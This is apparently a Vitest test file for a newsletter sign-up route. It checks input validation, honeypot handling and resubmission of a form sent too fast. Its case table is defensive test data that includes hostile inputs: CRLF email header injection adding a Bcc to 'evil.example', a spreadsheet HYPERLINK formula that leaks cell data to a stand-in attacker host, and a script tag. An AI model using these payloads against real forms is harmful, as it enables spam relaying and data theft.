/**
 * Bad input to the sign-up route gets a clear, specific answer at the edge and changes nothing;
 * bots get the same answer as people and are dropped; a form sent too fast is asked for again.
 * The table goes through the real site server (its journal) and CMS.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'

import { subscriber } from './cmsAdmin'
import { journalOf } from './journal'
import { serveBuild } from './serveBuild'

let site: Awaited<ReturnType<typeof serveBuild>>

beforeAll(async () => {
  site = await serveBuild(inject('siteDir'), inject('cmsUrl'))
})

// Nothing stored is checked per address: the sign-up tests run beside these on the same CMS, so
// a count of all subscribers would race with them.
afterAll(() => site?.stop())

const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString()
const FORM = 'application/x-www-form-urlencoded'

/** Neither in the site server's journal nor in the CMS. */
async function expectKeptNowhere(email: string) {
  const key = email.toLowerCase()
  expect(journalOf(site.dataDir).filter((signup) => signup.email.toLowerCase() === key)).toEqual([])
  // eslint-disable-next-line no-control-regex -- addresses a form cannot even carry
  if (!/[\r\n\u0000]/.test(email)) expect(await subscriber(email)).toBeUndefined()
}

type Case = {
  name: string
  body: BodyInit
  type?: string
  status: number
  /** The message, for a whole-form problem, or { field: message }. */
  message: RegExp | Record<string, RegExp>
  /** An address that must not be stored as a result. */
  email?: string
}

const email = (value: string, extra: Record<string, string> = {}): Pick<Case, 'body' | 'email'> => ({ body: form({ email: value, ...extra }), email: value })
const multipartWithFile = () => {
  const data = new FormData()
  data.append('email', 'file@reader.example')
  data.append('attachment', new Blob(['x'.repeat(10)], { type: 'text/plain' }), 'x.txt')
  return data
}

const CASES: Case[] = [
  { name: 'an empty form', body: '', type: FORM, status: 400, message: { email: /^Enter your email address\.$/ } },
  { name: 'an email of spaces', ...email('   '), status: 400, message: { email: /^Enter your email address\.$/ } },
  { name: 'no @', ...email('dana.example.org'), status: 400, message: { email: /like name@example\.org/ } },
  { name: 'two @', ...email('dana@levi@example.org'), status: 400, message: { email: /like name@example\.org/ } },
  { name: 'no top-level domain', ...email('dana@localhost'), status: 400, message: { email: /like name@example\.org/ } },
  { name: 'an IP address as domain', ...email('dana@[127.0.0.1]'), status: 400, message: { email: /like name@example\.org/ } },
  { name: 'a trailing dot', ...email('dana@example.org.'), status: 400, message: { email: /like name@example\.org/ } },
  { name: 'two dots in a row', ...email('dana..levi@example.org'), status: 400, message: { email: /like name@example\.org/ } },
  { name: 'a leading dot', ...email('.dana@example.org'), status: 400, message: { email: /like name@example\.org/ } },
  { name: 'a display name', ...email('Dana <dana@example.org>'), status: 400, message: { email: /spaces|like name@example\.org/ } },
  {
    name: 'an address over 254 characters',
    ...email(`${'a'.repeat(60)}@${'b'.repeat(190)}.org`),
    status: 400,
    message: { email: /too long \(254 characters at most\)/ },
  },
  { name: 'a mailbox over 64 characters', ...email(`${'a'.repeat(65)}@example.org`), status: 400, message: { email: /before the @ can be at most 64/ } },
  { name: 'CRLF header injection', ...email('dana@example.org\r\nBcc: victim@evil.example'), status: 400, message: { email: /on one line/ } },
  { name: 'a bare LF', ...email('dana@example.org\nBcc: victim@evil.example'), status: 400, message: { email: /on one line/ } },
  { name: 'a NUL byte', ...email('dana\u0000@example.org'), status: 400, message: { email: /on one line/ } },
  { name: 'a zero-width space', ...email('da\u200bna@example.org'), status: 400, message: { email: /spaces or invisible characters/ } },
  { name: 'a right-to-left override', ...email('\u202egro.elpmaxe@anad'), status: 400, message: { email: /spaces or invisible characters/ } },
  { name: 'a byte-order mark inside', ...email('dana\ufeff@example.org'), status: 400, message: { email: /spaces or invisible characters/ } },
  { name: 'a fullwidth @', ...email('dana＠example.org'), status: 400, message: { email: /like name@example\.org/ } },
  { name: 'a space inside', ...email('dana levi@example.org'), status: 400, message: { email: /spaces or invisible characters/ } },
  { name: 'an emoji mailbox', ...email('🙂@example.org'), status: 400, message: { email: /like name@example\.org/ } },
  {
    name: 'a first name over 100 characters',
    ...email('long-name@reader.example', { firstName: 'N'.repeat(101) }),
    status: 400,
    message: { firstName: /at most 100 characters/ },
  },
  {
    name: 'header injection in a name',
    ...email('inject-name@reader.example', { firstName: 'Dana\r\nBcc: victim@evil.example' }),
    status: 400,
    message: { firstName: /cannot be used/ },
  },
  {
    name: 'an invisible character in a name',
    ...email('invisible@reader.example', { lastName: 'Le\u200bvi' }),
    status: 400,
    message: { lastName: /cannot be used/ },
  },
  {
    name: 'a postal code over 12 characters',
    ...email('postal-long@reader.example', { postalCode: '1234567890123' }),
    status: 400,
    message: { postalCode: /at most 12 characters/ },
  },
  {
    name: 'a name a spreadsheet would run as a formula',
    ...email('formula@reader.example', { firstName: '=HYPERLINK("https://evil.example/?"&A3,"Click")' }),
    status: 400,
    message: { firstName: /cannot start with =, \+, - or @/ },
  },
  {
    name: 'markup in a postal code',
    ...email('postal-markup@reader.example', { postalCode: '<script>' }),
    status: 400,
    message: { postalCode: /only contain letters, digits, spaces and hyphens/ },
  },
  {
    name: 'several bad fields at once',
    ...email('x', { firstName: 'N'.repeat(200), postalCode: '$$$' }),
    status: 400,
    message: { email: /like name@/, firstName: /at most 100/, postalCode: /only contain/ },
  },
  {
    name: 'JSON instead of a form',
    body: JSON.stringify({ email: 'json@reader.example' }),
    type: 'application/json',
    status: 415,
    message: /Send the sign-up as a form/,
    email: 'json@reader.example',
  },
  {
    name: 'plain text instead of a form',
    body: 'email=text@reader.example',
    type: 'text/plain',
    status: 415,
    message: /Send the sign-up as a form/,
    email: 'text@reader.example',
  },
  {
    name: 'an oversized body',
    body: form({ email: 'big@reader.example', firstName: 'x'.repeat(5000) }),
    type: FORM,
    status: 413,
    message: /too large/,
    email: 'big@reader.example',
  },
  { name: 'a file upload', body: multipartWithFile(), status: 400, message: /cannot carry files/, email: 'file@reader.example' },
  {
    name: 'a field sent twice',
    body: 'email=twice@reader.example&email=other@reader.example',
    type: FORM,
    status: 400,
    message: /"email" was sent twice/,
    email: 'twice@reader.example',
  },
]

async function post(body: BodyInit, type = typeof body === 'string' ? FORM : undefined) {
  return fetch(`${site.url}/wire/signup`, {
    method: 'POST',
    headers: { Accept: 'application/json', ...(type && { 'Content-Type': type }) },
    body,
    redirect: 'manual',
  })
}

describe('the sign-up route', () => {
  it('has at least 30 kinds of bad input in this table', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(30)
  })

  it.each(CASES)('refuses $name with $status and a clear message, storing nothing', async ({ body, type, status, message, email }) => {
    const response = await post(body, type)
    expect(response.status).toBe(status)
    const answer = (await response.json()) as { ok: boolean; message: string; errors?: Record<string, string> }
    expect(answer.ok).toBe(false)
    if (message instanceof RegExp) {
      expect(answer.message).toMatch(message)
    } else {
      for (const [field, pattern] of Object.entries(message)) expect(answer.errors?.[field], field).toMatch(pattern)
    }
    if (email?.trim()) await expectKeptNowhere(email.trim())
  })

  it('answers a filled honeypot exactly like a real sign-up, and keeps nothing', async () => {
    const response = await post(form({ email: 'honeypot@reader.example', website: 'https://spam.example' }), FORM)
    expect(response.status).toBe(200)
    expect(await response.json()).toEqual({ ok: true, message: expect.stringContaining('we have sent an email to honeypot@reader.example') })
    await expectKeptNowhere('honeypot@reader.example')
  })

  it('accepts a sign-up, telling the person where the email went and what to do if it does not come', async () => {
    const response = await post(form({ email: 'Accepted@Reader.Example', firstName: 'Ada' }), FORM)
    expect(response.status).toBe(200)
    const answer = (await response.json()) as { ok: boolean; message: string }
    expect(answer.ok).toBe(true)
    expect(answer.message).toMatch(/we have sent an email to Accepted@reader\.example\..*spam folder.*sign up again/)
    await expect.poll(() => subscriber('accepted@reader.example'), { timeout: 20_000 }).toMatchObject({ status: 'pending' })
  })

  it('asks again for a form sent within 3 s of being shown, keeping nothing until it is sent again', async () => {
    const fast = await post(form({ email: 'hasty@reader.example', fillMs: '900' }), FORM)
    expect(fast.status).toBe(409)
    expect(await fast.json()).toEqual({ ok: false, again: true, message: expect.stringMatching(/One more step: .*press “Sign up” again/) })
    await expectKeptNowhere('hasty@reader.example')
    const again = await post(form({ email: 'hasty@reader.example', fillMs: '4200' }), FORM)
    expect(again.status).toBe(200)
    await expect.poll(() => subscriber('hasty@reader.example'), { timeout: 20_000 }).toMatchObject({ status: 'pending' })
  })

  it('without JavaScript, shows the form again with the input kept and the error tied to its field', async () => {
    const response = await fetch(`${site.url}/wire/signup`, {
      method: 'POST',
      headers: { 'Content-Type': FORM },
      body: form({ email: 'dana.example.org', firstName: 'Dana' }),
      redirect: 'manual',
    })
    expect(response.status).toBe(400)
    const html = await response.text()
    expect(html).toContain('value="dana.example.org"')
    expect(html).toContain('value="Dana"')
    expect(html).toMatch(/aria-invalid="true" aria-describedby="wire-page-email-error"/)
    expect(html).toMatch(/id="wire-page-email-error"[^>]*>Enter an email address like name@example\.org\./)
    // One heading, and the first field in error takes focus when the page opens.
    expect(html.match(/<h1[\s>]/g)).toHaveLength(1)
    expect(html).toMatch(/<input [^>]*id="wire-page-email"[^>]*autofocus/)
  })
})
